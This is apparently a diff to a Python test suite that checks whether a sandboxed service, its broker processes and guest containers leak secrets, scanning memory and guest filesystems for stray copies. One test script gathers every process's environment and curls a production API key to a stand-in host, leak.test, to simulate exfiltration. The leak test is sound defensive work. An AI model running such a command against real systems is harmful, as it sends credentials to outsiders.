@@ -56,6 +56,11 @@ def memory_of(pid):
                 continue
 
 
+def brokers_of(service):
+    return [pid for pid, line in harness.command_lines()
+            if "errand-box-broker" in line and f"\nPPid:\t{service}\n" in pathlib.Path(f"/proc/{pid}/status").read_text()]
+
+
 class Secrets(unittest.TestCase):
     @classmethod
     def setUpClass(cls):
@@ -93,6 +98,14 @@ class Secrets(unittest.TestCase):
                     except OSError:
                         continue
         return found, count
+
+    def guest_roots(self):
+        """Top folders of the live guests' file systems, as the guests have them mounted."""
+        for entry in self.world.incus("GET", "/1.0/instances?all-projects=true&recursion=1")["metadata"]:
+            state = self.world.incus("GET", f"/1.0/instances/{entry['name']}/state?project={entry['project']}")["metadata"]
+            for name in os.listdir(f"/proc/{state['pid']}/root"):
+                if name not in ("proc", "sys", "dev"):
+                    yield f"/proc/{state['pid']}/root/{name}"
 
     def serve(self):
         log = open(os.path.join(self.world.dir, "secrets.log"), "wb")
@@ -135,9 +148,8 @@ class Secrets(unittest.TestCase):
                 return
             looked["processes"] = self.look_at_processes()
             looked["service"] = self.look_at_memory(process.pid)
-            looked["brokers"] = [self.look_at_memory(pid) for pid in self.world.brokers()]
-            roots = [str(path) for path in pathlib.Path(self.world.incus_dir).glob("storage-pools/*/containers/*/rootfs")]
-            looked["rootfs"] = self.search_files(*roots, newer=began)
+            looked["brokers"] = [self.look_at_memory(pid) for pid in brokers_of(process.pid)]
+            looked["guest"] = self.search_files(*self.guest_roots(), newer=began)
 
         script = ("{ env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; } > /workspace/seen.txt 2>/dev/null;"
                   " curl -sS -m 10 -H \"x-k: $PRODUCTION_API_KEY\" http://leak.test/ >/dev/null; echo done")
@@ -153,10 +165,12 @@ class Secrets(unittest.TestCase):
         leaks, own = looked["service"]
         self.assertEqual(leaks, [], "the service keeps secrets outside the pages that are for them")
         self.assertGreater(own, 0, "the search does not even find the secrets where they are")
+        self.assertEqual(len(looked["brokers"]), 1)
         for leaks, own in looked["brokers"]:
             harness.log(f"a broker: {len(leaks)} hits outside, {own} in its secrets' own pages")
             self.assertEqual([leak for leak in leaks if "chat token" in leak], [])
-        self.assertEqual(looked["rootfs"][0], [])
+        self.assertEqual(looked["guest"][0], [])
+        self.assertGreater(looked["guest"][1], 0)
 
         # B49: what the guest saw of itself, and what it was given to find.
         inside = (self.world.project("secrets") / "seen.txt").read_bytes()
